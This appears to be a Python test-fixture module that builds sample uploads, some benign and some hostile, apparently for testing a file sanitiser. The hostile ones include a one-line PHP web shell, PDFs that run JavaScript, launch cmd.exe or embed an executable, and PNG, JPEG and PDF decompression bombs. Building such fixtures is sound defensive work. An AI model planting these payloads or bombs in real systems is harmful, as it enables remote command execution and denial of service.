"""Files as citizens send them, and as attackers do.  All are made here, none is anybody's."""

import struct
import zipfile
import zlib
from io import BytesIO
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image, PngImagePlugin

HANGZHOU = {1: "N", 2: (30.0, 16.0, 30.0), 3: "E", 4: (120.0, 9.0, 19.0)}
PHP = b"<?php system($_GET['c']); ?>"


def picture(mode: str = "RGB", size: tuple[int, int] = (64, 48)) -> Image.Image:
    return Image.linear_gradient("L").resize(size).convert(mode)


def jpeg(mode: str = "RGB", **options: Any) -> bytes:
    out = BytesIO()
    picture(mode).save(out, "JPEG", **options)
    return out.getvalue()


def jpeg_from_a_phone(orientation: int = 6) -> bytes:
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010F] = "SecretPhone"
    exif.get_ifd(0x8825).update(HANGZHOU)
    return jpeg(exif=exif, comment=b"taken at home")


def png(mode: str = "RGB", **options: Any) -> bytes:
    out = BytesIO()
    picture(mode).save(out, "PNG", **options)
    return out.getvalue()


def png_with_text(text: str) -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", text)
    return png(pnginfo=info)


def png_chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def png_with_chunk(name: bytes, body: bytes) -> bytes:
    """Put a chunk right behind the header."""
    clean = png()
    return clean[:33] + png_chunk(name, body) + clean[33:]


def jpeg_with_segment(marker: int, body: bytes) -> bytes:
    """Put a segment right behind the start."""
    clean = jpeg()
    return clean[:2] + bytes([0xFF, marker]) + struct.pack(">H", len(body) + 2) + body + clean[2:]


def archive() -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr("evil.class", b"\xca\xfe\xba\xbe")
    return out.getvalue()


def document(pages: int = 1) -> pikepdf.Pdf:
    made = pikepdf.new()
    for _ in range(pages):
        made.add_blank_page()
    return made


def saved(made: pikepdf.Pdf, **options: Any) -> bytes:
    out = BytesIO()
    made.save(out, static_id=True, **options)  # the same document has the same bytes
    return out.getvalue()


def pdf(pages: int = 1, **options: Any) -> bytes:
    return saved(document(pages), **options)


def pdf_with(change: Any) -> bytes:
    made = document()
    change(made)
    return saved(made, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def _on_opening(action: Dictionary) -> bytes:
    return pdf_with(lambda made: made.Root.__setattr__("OpenAction", made.make_indirect(action)))


def _with_annotation(**entries: Any) -> bytes:
    note = Dictionary(Type=Name.Annot, Rect=Array([0, 0, 9, 9]), **entries)
    return pdf_with(lambda made: made.pages[0].__setattr__("Annots", Array([note])))


def pdf_that_runs_a_script() -> bytes:
    return _on_opening(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))


def pdf_that_starts_a_program() -> bytes:
    return _with_annotation(Subtype=Name.Link, A=Dictionary(S=Name.Launch, F=String("cmd.exe")))


def pdf_with_an_attachment() -> bytes:
    return pdf_with(lambda made: made.attachments.__setitem__("x.exe", b"MZ"))


def pdf_that_sends_a_form() -> bytes:
    return _with_annotation(Subtype=Name.Link, A=Dictionary(S=Name.SubmitForm, F=String("http://x")))


def pdf_that_acts_on_its_own() -> bytes:
    return pdf_with(
        lambda made: made.pages[0].__setattr__("AA", Dictionary(O=Dictionary(S=Name.Named, N=Name.Print)))
    )


def pdf_with_a_link() -> bytes:
    return _with_annotation(
        Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("https://www.zjzwfw.gov.cn"))
    )


def pdf_that_opens_at_a_page() -> bytes:
    return pdf_with(lambda made: made.Root.__setattr__("OpenAction", Array([made.pages[0].obj, Name.Fit])))


def pdf_with_a_stream(raw: bytes, filters: Any, **entries: Any) -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        stream = pikepdf.Stream(made, b"", **entries)
        stream.write(raw, filter=filters)
        made.pages[0].Contents = made.make_indirect(stream)

    return pdf_with(change)


def pdf_that_inflates(megabytes: int) -> bytes:
    squeezer = zlib.compressobj(9)
    block = bytes(1 << 20)
    raw = b"".join(squeezer.compress(block) for _ in range(megabytes)) + squeezer.flush()
    return pdf_with_a_stream(raw, Name.FlateDecode)


def pdf_that_inflates_twice() -> bytes:
    raw = zlib.compress(zlib.compress(bytes(1 << 20)))
    return pdf_with_a_stream(raw, Array([Name.FlateDecode, Name.FlateDecode]))


def png_bomb() -> bytes:
    """A picture of 30 000 by 30 000 in a few hundred bytes."""
    header = struct.pack(">IIBBBBB", 30_000, 30_000, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", zlib.compress(bytes(1000)))
        + png_chunk(b"IEND", b"")
    )


def jpeg_bomb() -> bytes:
    """A picture that says it has 65 500 by 65 500 points."""
    data = bytearray(jpeg())
    frame = data.index(b"\xff\xc0")
    data[frame + 5 : frame + 9] = struct.pack(">HH", 65_500, 65_500)
    return bytes(data)
